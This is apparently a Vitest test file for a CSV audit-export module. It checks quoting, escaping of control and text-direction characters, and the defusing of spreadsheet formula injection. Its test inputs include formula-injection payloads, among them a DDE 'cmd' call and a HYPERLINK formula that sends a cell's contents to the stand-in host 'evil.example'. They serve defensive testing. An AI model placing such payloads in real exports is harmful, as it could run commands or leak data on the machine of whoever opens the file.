import { expect, test } from 'vitest'
import type { AuditEvent } from '#server/features/audit/audit-event.ts'
import { csvHead, csvLine, toCell } from '#server/features/audit-exports/csv.ts'

const event: AuditEvent = {
  id: '019a0000-0000-7000-8000-000000000001',
  at: '2026-11-23T08:00:00.000Z',
  entity: 'task',
  entityId: '019a0000-0000-7000-8000-000000000002',
  taskId: null,
  projectId: null,
  action: 'task.updated',
  memberId: null,
  memberName: null,
  tokenId: null,
  tokenName: null,
  job: null,
  requestId: null,
  address: null,
  reason: null,
  erased: [],
  changes: {},
}

/** As a program reads it that knows RFC 4180 and nothing of us; `separator` as it is set to. */
function parse(text: string, separator = ','): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  for (let i = 0; i < text.length; i++) {
    const sign = text[i]!
    if (isQuoted) {
      if (sign !== '"') cell += sign
      else if (text[i + 1] === '"') cell += text[i++]
      else isQuoted = false
    } else if (sign === '"' && cell === '') isQuoted = true
    else if (sign === separator) {
      row.push(cell)
      cell = ''
    } else if (sign === '\n') {
      rows.push([...row, cell.replace(/\r$/, '')])
      row = []
      cell = ''
    } else cell += sign
  }
  return rows
}

const attacks = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  '＝1+1',
  'harmless;=1+1',
  'harmless\n=1+1',
  'harmless";"=1+1',
  '=HYPERLINK("https://evil.example?"&A1,"click")',
]

test('the file begins with the mark of UTF-8, and each line has a cell for each column', () => {
  expect(Buffer.from(csvHead).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
  const [head, line] = parse(csvHead.slice(1) + csvLine(7, { ...event, reason: 'a "quoted", odd\r\nreason' }))
  expect(head).toContain('changesJson')
  expect(line).toHaveLength(head!.length)
  expect(line![0]).toBe('7')
  expect(line![head!.indexOf('reason')]).toBe('a "quoted", odd\\r\\nreason')
})

test.each(attacks)('no cell is a formula where somebody is called %j', attack => {
  const changes = {
    title: { from: attack, to: `${attack}${attack}` },
    assigneeId: { from: null, to: 'x', toName: attack },
  }
  const line = csvLine(0, { ...event, memberName: attack, tokenName: attack, reason: attack, changes })
  for (const separator of [',', ';', '\t', '|']) {
    const cells = parse(line, separator).flat()
    for (const cell of cells) expect(cell, separator).not.toMatch(/^[\s"]*[=+\-@＝＋－＠\t\r]/u)
  }
})

test.each(attacks)('the JSON column says exactly what was changed: %j', attack => {
  const changes = { title: { from: null, to: attack }, rateCents: { from: -5, to: [1, -2, 1e21] } }
  const [cells] = parse(csvLine(0, { ...event, changes }))
  expect(JSON.parse(cells!.at(-1)!)).toEqual(changes)
})

test('control characters, and signs that turn text around, are shown and do nothing; other writing stays as it is', () => {
  expect(toCell('a\u001b[31mred\u0007')).toBe('a\\u001b[31mred\\u0007')
  expect(toCell('invoice\u202efdp.exe')).toBe('invoice\\u202efdp.exe')
  expect(toCell('Grüße 日本語 👩‍👩‍👧 ‏</script>')).toBe('Grüße 日本語 👩‍👩‍👧 \\u200f</script>')
  expect(parse(csvLine(0, { ...event, changes: { title: { from: '\u001b', to: '\u202e' } } }))[0]!.at(-1)).toBe(
    String.raw`{"title":{"from":"\u001b","to":"\u202e"}}`,
  )
})

test('the readable column names what changed, from and to', () => {
  const changes = {
    title: { from: 'Old', to: 'New' },
    assigneeId: { from: null, to: '019a0000-0000-7000-8000-000000000003', fromName: null, toName: 'Mia' },
    note: { from: null, to: null, erased: 'c2hh' },
  }
  const [cells] = parse(csvLine(0, { ...event, changes }))
  expect(cells!.at(-2)).toBe('title: “Old” → “New” · assigneeId: (none) → “Mia” · note: (erased)')
})
